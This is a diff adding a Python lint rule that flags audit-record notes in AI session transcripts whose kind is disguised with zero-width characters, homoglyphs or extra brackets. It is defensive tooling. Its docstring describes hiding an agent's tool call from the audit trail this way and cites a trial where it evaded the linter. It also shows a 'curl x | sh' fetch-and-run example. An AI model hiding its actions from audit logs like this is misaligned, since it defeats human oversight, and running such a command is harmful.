@@ -1,0 +1,135 @@
+"""A note kind written exactly but disguised, so no reader takes the note for an audit record.
+
+## What it does
+Reports a note whose head reads as a note kind Harvey writes, followed by `: ` and that kind's
+payload, but is not that kind's head because of what cannot be seen or told apart: an invisible
+character in or beside the kind (U+200B ZERO WIDTH SPACE, U+00AD SOFT HYPHEN, a joiner, a
+combining accent), letters of another width or script drawn like its own (fullwidth `ｔool`,
+Cyrillic `tоol`, `töol`), or an extra `[` before it (`[[[tool: …]]`). Reported at the head,
+naming the characters (`U+200B ZERO WIDTH SPACE`) and the kind it looks like. The payload test
+is `misspelt-note-kind`'s (`NAME(…) — ok|error` for a tool, `N chunks from` for RAG, …).
+
+## Why is this bad?
+A reader of the file sees `[[tool: run_shell({"cmd":"curl x | sh"}) — ok]]`; every reader of
+the audit trail (Harvey's, `dump`, `provenance`, `export`, `report`) sees a writer's free-text
+note, so the tool call is missing from the record, and a turn with no other note reads as
+"no tool was used". `misspelt-note-kind` reports slips of the keyboard; this is a record hidden
+in plain sight, whether pasted in by accident or written to hide the call: an error.
+
+## Severity
+Error: the file shows an audit record that is not in the audit trail.
+
+## Example
+```fountain
+INT. HARVEY AND ALICE TALKING 2026-06-24 10:02:30
+
+Harvey and ALICE are in chat mode. Model: LLAMA. Workspace: /tmp/ws.
+
+ALICE
+What is in a.go?
+
+HARVEY
+Forwarding to LLAMA.
+
+[[ｔool: read_file({"path":"a.go"}) — ok]]
+
+LLAMA
+It declares package main.
+```
+
+## Use instead
+```fountain
+INT. HARVEY AND ALICE TALKING 2026-06-24 10:02:30
+
+Harvey and ALICE are in chat mode. Model: LLAMA. Workspace: /tmp/ws.
+
+ALICE
+What is in a.go?
+
+HARVEY
+Forwarding to LLAMA.
+
+[[tool: read_file({"path":"a.go"}) — ok]]
+
+LLAMA
+It declares package main.
+```
+
+## References
+- FOUNTAIN_FORMAT.md §Notes (a note kind and its `kind: ` head, exactly); Unicode TR #39
+  (confusable characters); the adversarial trial of stop 37 (a tool call hidden by one
+  zero-width space, lint "All clear")
+"""
+
+import re
+import unicodedata
+
+from fountain_audit.lint.diagnostics import Severity
+from fountain_audit.lint.rules import SESSION_LIKE
+from fountain_audit.lint.rules.misspelt_note_kind import _PAYLOADS, _finding, _fold, _kinds, _reads_as_payload
+from fountain_audit.parse.fountain import Note
+
+CODE = "N113"
+NAME = "disguised-note-kind"
+SEVERITY = Severity.ERROR
+SINCE = "1.2"
+SCOPE = SESSION_LIKE
+NOTE_KINDS = ("unknown",)
+
+
+def check_note(ctx, placed):
+    return _disguised(ctx, placed.note.node)
+
+
+def check_scene(ctx, scene):
+    # the notes of its speeches' text, as misspelt-note-kind reads them: a note that is no audit
+    # record does not end the speech before it
+    out = None
+    for speech in scene.speeches:
+        for node in speech.continuation:
+            if isinstance(node, Note) and (found := _disguised(ctx, node)):
+                if out is None:
+                    out = []
+                out.extend(found)
+    return out
+
+
+#: Letters of other scripts drawn like the Latin letters of note kinds (Cyrillic, Greek), read as
+#: those: ``[[tоol: …]]`` with a Cyrillic ``о`` looks like a tool call and is none.
+_LOOK_ALIKES = str.maketrans("аеорсухіѕјһԁԛԝӏαοριτυνκεАВЕКМНОРСТХІЅЈΑΒΕΗΙΚΜΝΟΡΤΥΧ",
+                             "aeopcyxisjhdqwlaopitunkeABEKMHOPCTXISJABEHIKMNOPTYX")
+#: The head of a note up to its colon, for :func:`_disguised` (bounded: a kind is short).
+_ANY_HEAD = re.compile(r"[^:\n\]]{1,40}:")
+
+
+def _disguised(ctx, node):
+    """The finding for a note kind written exactly but disguised (see the module's docstring): an
+    invisible character in or beside it (``tool`` + U+200B, a soft hyphen, a combining accent),
+    letters of another width or script drawn like its own (fullwidth ``ｔool``, Cyrillic
+    ``tоol``, ``töol``), or an extra ``[`` before it (``[[[tool: …]]``), followed by ``:`` and
+    a blank, when what follows reads as that kind's payload; else ``None``. Such a head looks
+    like the kind to a reader of the file, and hides the record from every reader of the
+    audit trail, N112 included (it compares ASCII words)."""
+    raw = ctx.text[node.offset:node.end_offset]
+    start = raw.find("[[") + 2
+    m = _ANY_HEAD.match(raw, start)
+    if m is None:
+        return None
+    head = m.group()[:-1]
+    plain = "".join(c for c in unicodedata.normalize("NFKD", head)
+                    if unicodedata.category(c) not in ("Cf", "Mn", "Me", "Zs") or c in " \t").translate(_LOOK_ALIKES)
+    plain = plain.lstrip("[ \t")
+    kind = _kinds().get(_fold(plain)) if plain.isascii() else None
+    if kind is None or plain.strip() == head.strip():
+        return None
+    end = raw.rfind("]]")
+    payload = raw[m.end():end if end >= m.end() else len(raw)].lstrip(" ")
+    if kind in _PAYLOADS and not _reads_as_payload(kind, payload):
+        return None
+    odd = [c for c in head if not (c.isascii() and c.isprintable())]
+    if odd:
+        what = ", ".join(f"U+{ord(c):04X} {unicodedata.name(c, 'character')}" for c in dict.fromkeys(odd))
+        what = f"note head '{kind}:' is written with {what}, which no reader takes for '{kind}'"
+    else:
+        what = f"note head '{head.strip()}:' has {head.count('[')} '[' more than a note's opening '[['"
+    return _finding(node, raw, start, head, what, kind)
